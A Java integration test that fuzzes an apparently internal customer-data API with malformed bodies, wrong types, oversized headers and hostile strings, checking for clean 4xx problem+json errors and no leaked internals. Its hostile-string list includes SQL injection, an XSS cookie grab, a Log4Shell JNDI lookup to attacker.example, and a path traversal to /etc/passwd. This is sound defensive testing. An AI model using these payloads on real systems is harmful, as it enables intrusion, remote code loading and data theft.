package io.mosaic.reliability;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.mosaic.testing.MosaicServices;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * What the internet sends, over every route family of the public API: never a 500, never a stack trace or an
 * exception's name in a response, errors as problem+json; what is accepted is stored as sent, not interpreted.
 */
@ExtendWith(Platform.class)
class HostileInputIT {
    private static final ObjectMapper JSON = new ObjectMapper();
    /** SQL, script, template, path and format-string fragments, and unicode that trips careless code. */
    static final List<String> HOSTILE_STRINGS = List.of(
            "'; drop table profiles; --",
            "\" or 1=1 --",
            "<script>alert(document.cookie)</script>",
            "${jndi:ldap://attacker.example/a}",
            "#{7*7}{{7*7}}",
            "../../../../etc/passwd",
            "%s%s%s%n%x",
            "\u0000nul inside",
            "\ud800 lone surrogate",
            "\u202eright-to-left override",
            "zero\u200bwidth\ufeffbom",
            "emoji 👩‍👩‍👧‍👦 and 𝕄𝕠𝕤𝕒𝕚𝕔",
            "x".repeat(100_000));

    private static String key;
    private static String tenant;

    @BeforeAll
    static void tenantWithEveryScope() {
        tenant = Client.newTenant("hostile");
        key = Client.fullKey(tenant);
    }

    @Test
    void malformedBodiesAreRefusedWithProblemJson() {
        List<byte[]> bodies = List.of(
                new byte[0],
                "{".getBytes(StandardCharsets.UTF_8),
                "{\"events\": [".getBytes(StandardCharsets.UTF_8),
                "null".getBytes(StandardCharsets.UTF_8),
                "[]".getBytes(StandardCharsets.UTF_8),
                "42".getBytes(StandardCharsets.UTF_8),
                "\"just a string\"".getBytes(StandardCharsets.UTF_8),
                "{\"a\":}".getBytes(StandardCharsets.UTF_8),
                new byte[] {(byte) 0xC0, (byte) 0xAF, '{', '}'}, // overlong UTF-8
                new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, '{', '}'}, // byte order mark
                "[".repeat(100_000).getBytes(StandardCharsets.UTF_8),
                "{\"a\":".repeat(50_000).getBytes(StandardCharsets.UTF_8),
                ("{\"events\": [" + "{},".repeat(200_000) + "{}]}").getBytes(StandardCharsets.UTF_8));
        int requests = 0;
        for (String route :
                List.of("/v1/events", "/v1/events/batch", "/v1/segments", "/v1/segments/preview", "/v1/api-keys")) {
            for (byte[] body : bodies) {
                String asKey = route.equals("/v1/api-keys") ? Platform.ADMIN_KEY : key;
                assertRefusedCleanly(Client.as(asKey).body(body).post(route), "POST " + route);
                requests++;
            }
        }
        Report.hostile(new Report.Hostile(
                "Malformed JSON",
                "empty, truncated, `null`, arrays and scalars instead of objects, overlong UTF-8, a BOM, 100,000"
                        + " nested arrays, 50,000 nested objects, a batch of 200,001 events; on every POST route",
                requests,
                "4xx problem+json every time (400, 413); no 500, no stack trace"));
    }

    @Test
    void everyFieldOfAnEventWithEveryWrongTypeIsNamedInA400() throws Exception {
        List<Object> wrongValues = List.of(42, true, List.of("a"), Map.of("a", 1), "", -1.5e308);
        int requests = 0;
        for (String field : validEvent().keySet()) {
            for (Object wrong : wrongValues) {
                Map<String, Object> event = validEvent();
                event.put(field, wrong);
                Response response =
                        Client.as(key).body(JSON.writeValueAsBytes(event)).post("/v1/events");
                requests++;
                if (response.statusCode() == 202) {
                    continue; // a value of another type that is still valid for this field (e.g. empty properties)
                }
                assertRefusedCleanly(response, field + " = " + wrong);
                assertThat(response.asString()).as(field + " = " + wrong).contains(field);
            }
        }
        Report.hostile(new Report.Hostile(
                "Wrong types",
                "each field of an event set to a number, boolean, array, object, empty string, -1.5e308",
                requests,
                "400 problem+json naming the field, or 202 where the value is valid; no 500"));
    }

    @Test
    void hostileStringsInEveryStringFieldAreRefusedOrStoredAsSent() throws Exception {
        int requests = 0;
        List<String> storedCustomers = new ArrayList<>();
        for (String field : List.of("eventId", "source", "customerId", "channel", "type", "occurredAt")) {
            for (String hostile : HOSTILE_STRINGS) {
                Map<String, Object> event = validEvent();
                event.put(field, hostile);
                Response response =
                        Client.as(key).body(JSON.writeValueAsBytes(event)).post("/v1/events");
                requests++;
                // A lone surrogate has no UTF-8 form: the client's encoder sends a replacement, which a URL cannot
                // name as the original; every other accepted id must read back as sent.
                boolean expressible = StandardCharsets.UTF_8.newEncoder().canEncode(hostile);
                if (response.statusCode() == 202 && field.equals("customerId") && expressible) {
                    storedCustomers.add(hostile);
                } else if (response.statusCode() != 202) {
                    assertRefusedCleanly(response, field + " = " + abbreviated(hostile));
                }
            }
        }
        for (String hostile : HOSTILE_STRINGS) {
            Map<String, Object> event = validEvent();
            event.put("customerId", "traits-" + UUID.randomUUID());
            event.put("type", "customer.identified");
            event.put("properties", Map.of("traits", Map.of("psychographic", Map.of("motto", hostile))));
            Response response =
                    Client.as(key).body(JSON.writeValueAsBytes(event)).post("/v1/events");
            requests++;
            if (response.statusCode() != 202) {
                assertRefusedCleanly(response, "trait = " + abbreviated(hostile));
            }
        }
        Client.awaitCaughtUp(key);
        for (String customerId : storedCustomers) {
            Response profile = given().urlEncodingEnabled(false)
                    .header("Authorization", "Bearer " + key)
                    .get("/v1/profiles/"
                            + URLEncoder.encode(customerId, StandardCharsets.UTF_8)
                                    .replace("+", "%20"));
            requests++;
            assertThat(profile.statusCode())
                    .as("profile of customer " + abbreviated(customerId))
                    .isEqualTo(200);
            assertThat(profile.jsonPath().getString("customerId")).isEqualTo(customerId);
        }
        Report.hostile(new Report.Hostile(
                "SQL, script, template, path and format-string fragments; unicode edge cases",
                HOSTILE_STRINGS.size() + " strings (incl. NUL, a lone surrogate, RTL override, zero-width, emoji,"
                        + " 100,000 characters) in every string field of an event and in a trait",
                requests,
                "refused with 400/413 problem+json, or accepted and then served back exactly as sent"
                        + " (customer ids read back: " + storedCustomers.size() + "); no 500"));
    }

    @Test
    void hostileQueryParametersAndPathsAreRefusedCleanly() {
        List<Function<String, String>> routes = List.of(
                value -> "/v1/profiles/" + value,
                value -> "/v1/profiles?email=" + value,
                value -> "/v1/profiles?phone=" + value,
                value -> "/v1/profiles?externalId=" + value,
                value -> "/v1/profiles/c-1/timeline?limit=" + value,
                value -> "/v1/profiles/c-1/timeline?before=" + value,
                value -> "/v1/segments/" + value,
                value -> "/v1/segments/vip/members?cursor=" + value,
                value -> "/v1/segments/vip/members?limit=" + value,
                value -> "/v1/segments/" + value + "/insights");
        int requests = 0;
        for (Function<String, String> route : routes) {
            for (String hostile : HOSTILE_STRINGS) {
                String value = URLEncoder.encode(hostile, StandardCharsets.UTF_8);
                Response response = orClosed(() -> given().urlEncodingEnabled(false)
                        .header("Authorization", "Bearer " + key)
                        .get(route.apply(value)));
                requests++;
                if (response == null) {
                    // refused at the HTTP layer: the server answered 414 and closed while the client still wrote
                    assertThat(value.length()).as(route.apply("…") + " closed").isGreaterThan(8_192);
                    continue;
                }
                assertThat(response.statusCode()).as(route.apply("…")).isIn(200, 400, 404, 409, 414, 431);
                assertNoInternals(response, route.apply(abbreviated(hostile)));
            }
        }
        Report.hostile(new Report.Hostile(
                "Hostile path segments and query parameters",
                "the same strings in profile ids, lookups, timeline paging, segment ids, member cursors and limits",
                requests,
                "200/404 for lookups that are merely unknown, 400/414 problem+json otherwise; no 500"));
    }

    @Test
    void headerFloodsAreRefusedAndTheServicesStayUp() throws Exception {
        int requests = 0;
        RequestSpecification many = Client.as(key);
        for (int i = 0; i < 2_000; i++) {
            many = many.header("X-Flood-" + i, "v".repeat(50));
        }
        RequestSpecification flood = many;
        assertRefusedOrClosed(orClosed(() -> flood.get("/v1/segments")), "2,000 headers");
        requests++;
        assertRefusedOrClosed(
                orClosed(() ->
                        Client.as(key).header("X-Huge", "h".repeat(200_000)).get("/v1/segments")),
                "a 200 KB header");
        requests++;
        assertRefusedOrClosed(
                orClosed(() -> given().header("Authorization", "Bearer " + "k".repeat(60_000))
                        .get("/v1/segments")),
                "a 60 KB key");
        requests++;

        MosaicServices services = Platform.get().services();
        for (String module : MosaicServices.MODULES) {
            assertThat(services.instance(module).isReady())
                    .as(module + " ready after the fuzz")
                    .isTrue();
            double heap = services.instance(module)
                    .metrics("jvm_memory_used_bytes{area=\"heap\"")
                    .lines()
                    .mapToDouble(line -> Double.parseDouble(line.substring(line.lastIndexOf(' ') + 1)))
                    .sum();
            assertThat(heap).as(module + " heap in use after the fuzz").isLessThan(512.0 * 1024 * 1024);
        }
        Report.hostile(new Report.Hostile(
                "Header floods",
                "2,000 headers; one 200 KB header; a 60 KB API key",
                requests,
                "431/400 before any service code runs, or the connection closed while the client still sent;"
                        + " all four services ready afterwards, each heap under its 512 MiB limit"));
    }

    /** The response, or null when the server closed the connection on an oversized request while it was sent. */
    private static Response orClosed(java.util.function.Supplier<Response> call) {
        try {
            return call.get();
        } catch (Exception e) { // RestAssured throws the SocketException itself, undeclared
            if (e instanceof java.net.SocketException || e.getCause() instanceof java.net.SocketException) {
                return null;
            }
            throw e;
        }
    }

    private static void assertRefusedOrClosed(Response response, String what) {
        if (response != null) {
            assertThat(response.statusCode()).as(what).isIn(400, 401, 413, 431);
            assertNoInternals(response, what);
        }
    }

    private static Map<String, Object> validEvent() {
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("eventId", UUID.randomUUID().toString());
        event.put("type", "message.received");
        event.put("occurredAt", Instant.now().minusSeconds(30).toString());
        event.put("source", "fuzz");
        event.put("customerId", "c-" + UUID.randomUUID());
        event.put("channel", "chat");
        event.put("properties", Map.of("ticketId", "t-1"));
        return event;
    }

    private static void assertRefusedCleanly(Response response, String what) {
        assertThat(response.statusCode())
                .as(what + ": " + abbreviated(response.asString()))
                .isBetween(400, 499);
        assertNoInternals(response, what);
        if (!response.asString().isEmpty()) {
            assertThat(response.contentType()).as(what).startsWith("application/problem+json");
        }
    }

    /** Nothing of the implementation leaks: no stack frames, exception class names or SQL. */
    static void assertNoInternals(Response response, String what) {
        String body = response.asString();
        assertThat(body)
                .as(what)
                .doesNotContain(
                        "\tat ",
                        "at io.",
                        "at java.",
                        "at org.",
                        ".java:",
                        "Exception",
                        "SQLState",
                        "org.postgresql",
                        "com.fasterxml");
    }

    static String abbreviated(String text) {
        return text.length() <= 60 ? text : text.substring(0, 60) + "… (" + text.length() + " chars)";
    }
}
